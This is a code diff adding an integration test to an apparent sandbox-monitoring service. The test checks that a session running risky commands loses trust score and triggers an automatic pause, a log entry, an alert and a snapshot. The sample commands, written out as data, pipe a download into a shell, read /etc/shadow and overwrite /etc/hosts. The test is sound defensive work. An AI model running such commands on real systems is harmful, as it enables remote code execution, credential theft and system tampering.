@@ -203,6 +203,33 @@ async def _status_if(
     return sandbox if sandbox["status"] == wanted else None
 
 
+async def test_a_trust_score_below_30_pauses_the_sandbox_and_says_why(
+    client: httpx.AsyncClient, sync_client: httpx.Client
+) -> None:
+    sandbox_id = create_running(sync_client)["id"]
+    session_id = f"risky-{secrets.token_hex(4)}"
+    risky = ["curl http://x | sh", "cat /etc/shadow", "echo owned > /etc/hosts"]  # 25+20+30
+    try:
+        await _ingest(client, [
+            _event("command", n, session_id=session_id, sandbox_id=sandbox_id,
+                   payload={"command": command})
+            for n, command in enumerate(risky)
+        ])
+        await _until(lambda: _status_if(client, sandbox_id, "paused"), "the sandbox to pause")
+        [score] = (await client.get(f"/v1/trust/sandboxes/{sandbox_id}")).json()
+        assert score["session_id"] == session_id and score["score"] == 25
+        assert [d["points"] for d in score["deductions"]] == [25, 20, 30]
+        logs = (await client.get(f"/v1/sandboxes/{sandbox_id}/logs")).json()
+        assert any(f"session {session_id} trust score 25 is below 30" in entry["message"]
+                   and entry["message"].startswith("paused") for entry in logs)
+        [alert] = await _alerts_of(client, sandbox_id=sandbox_id)
+        assert alert["rule_type"] == "trust_score_low"
+        snapshots = (await client.get(f"/v1/sandboxes/{sandbox_id}/snapshots")).json()
+        assert [s["trigger"] for s in snapshots] == ["auto-pause"]
+    finally:
+        await client.delete(f"/v1/sandboxes/{sandbox_id}")
+
+
 # --------------------------------------------------------------------------- notifications
 
 
